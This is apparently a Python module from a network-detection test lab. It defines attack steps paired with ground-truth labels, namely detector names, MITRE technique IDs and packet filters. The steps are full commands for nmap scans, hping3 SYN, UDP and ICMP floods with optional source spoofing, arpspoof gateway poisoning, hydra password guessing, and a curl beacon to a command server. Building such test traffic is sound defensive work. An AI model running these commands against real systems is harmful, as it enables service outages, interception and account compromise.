"""Attack steps that scenarios share, each with the label it earns."""

from tests.lab.scenario import Step, Truth

_FORGED = "the source addresses are forged"


def port_scan(
    attacker: str, victim: str, options: str = "--max-rate 400", seconds: float = 60
) -> Step:
    """An nmap SYN scan of a host's 1,000 most used ports, or of those that ``options`` name."""
    source = f"{attacker}6" if victim.endswith("6") else attacker
    return Step(
        attacker,
        f"nmap -n -Pn -sS {options} {{{victim}}}",
        seconds=seconds,
        truth=Truth(
            detector="port_scan",
            technique="T1046",
            note=f"nmap -sS {options}",
            packets=f"src host {{{source}}} and dst host {{{victim}}}",
            src=source,
            dst=victim,
        ),
    )


def address_sweep(attacker: str, network: str, options: str, by_arp: bool = False) -> Step:
    """An nmap sweep over a routed network, or by ARP over the attacker's own."""
    routed = f"src host {{{attacker}}} and dst net {network}"
    return Step(
        attacker,
        f"nmap -n {options} {network}",
        seconds=90,
        truth=Truth(
            detector="address_sweep",
            technique="T1018",
            note=f"nmap {options}",
            packets=f"arp and ether src {{{attacker}_mac}} and arp[6:2] = 1" if by_arp else routed,
            src=attacker,
            dst=network,
        ),
    )


def syn_flood(attacker: str, victim: str, count: int, gap_us: int, spoofed: bool = False) -> Step:
    """SYNs to a web server's port 80 that no one means to complete."""
    forging = " --rand-source" if spoofed else ""
    source = "" if spoofed else f"src host {{{attacker}}} and "
    return Step(
        attacker,
        f"hping3 -q -n -S -p 80 -i u{gap_us} -c {count}{forging} {{{victim}}}",
        seconds=60,
        exits=(0, 1),
        truth=Truth(
            detector="syn_flood",
            technique="T1499.001",
            note=_FORGED if spoofed else "one source, source port counts up",
            packets=f"{source}dst host {{{victim}}} and tcp[13] = 2 and dst port 80",
            src=None if spoofed else attacker,
            dst=victim,
        ),
    )


def udp_flood(attacker: str, victim: str, count: int, gap_us: int) -> Step:
    """UDP datagrams of 512 bytes to a closed port."""
    return Step(
        attacker,
        f"hping3 -q -n --udp -p 9999 -d 512 -i u{gap_us} -c {count} {{{victim}}}",
        seconds=60,
        exits=(0, 1),
        truth=Truth(
            detector="udp_flood",
            technique="T1498.001",
            note="512-byte datagrams to one closed port",
            packets=f"src host {{{attacker}}} and dst host {{{victim}}} and udp dst port 9999",
            src=attacker,
            dst=victim,
        ),
    )


def icmp_flood(attacker: str, victim: str, count: int, gap_us: int) -> Step:
    """Echo requests far faster than any monitoring."""
    return Step(
        attacker,
        f"hping3 -q -n --icmp -d 120 -i u{gap_us} -c {count} {{{victim}}}",
        seconds=60,
        exits=(0, 1),
        truth=Truth(
            detector="icmp_flood",
            technique="T1498.001",
            note="echo requests, answered",
            packets=f"src host {{{attacker}}} and dst host {{{victim}}} and icmp[0] = 8",
            src=attacker,
            dst=victim,
        ),
    )


def arp_spoof(attacker: str, victim: str, seconds: float) -> Step:
    """Both directions between a victim and the gateway poisoned, and put right again at the end."""
    return Step(
        attacker,
        f"arpspoof -i eth0 -t {{{victim}}} -r {{gateway}}",
        seconds=seconds,
        endless=True,
        truth=Truth(
            detector="arp_spoof",
            technique="T1557.002",
            note="claims the gateway's address to the victim and the victim's to the gateway",
            packets=f"arp and ether src {{{attacker}_mac}} and arp[6:2] = 2"
            f" and (arp src host {{gateway}} or arp src host {{{victim}}})",
            src=attacker,
            dst=victim,
        ),
    )


def password_guess(attacker: str, service: str, guesses: int, options: str = "-t 4") -> Step:
    """hydra guessing one account's password on the NAS from a word list, none of them right."""
    port = {"ssh": 22, "ftp": 21, "rdp": 3389}[service]
    words = f"head -{guesses} {{room}}/etc/guesses >{{room}}/guess-{service}"
    hydra = f"hydra -I -q {options} -l {{user}} -P {{room}}/guess-{service} {service}://{{nas}}"
    return Step(
        attacker,
        f"bash -c '{words} && exec {hydra}'",
        seconds=150,
        exits=(0, 255),  # 255: sshd turned a connection away, as it does when many are half open
        truth=Truth(
            detector="password_guess",
            technique="T1110.001",
            note=f"{guesses} guesses for one {service} account, all wrong; hydra {options}",
            packets=f"src host {{{attacker}}} and dst host {{nas}} and tcp dst port {port}",
            src=attacker,
            dst="nas",
        ),
    )


def beaconing(actor: str, every: float, times: int, jitter: float) -> Step:
    """An implant that asks its command server for orders at a steady pace."""
    return Step(
        actor,
        "curl -s -o /dev/null -A updater/1.0 http://{c2}/beat",
        times=times,
        every=every,
        jitter=jitter,
        truth=Truth(
            detector="beaconing",
            technique="T1071.001",
            note=f"one request each {every:g} s ± {jitter:.0%}",
            packets=f"src host {{{actor}}} and dst host {{c2}} and tcp",
            src=actor,
            dst="c2",
            notice=True,
        ),
    )
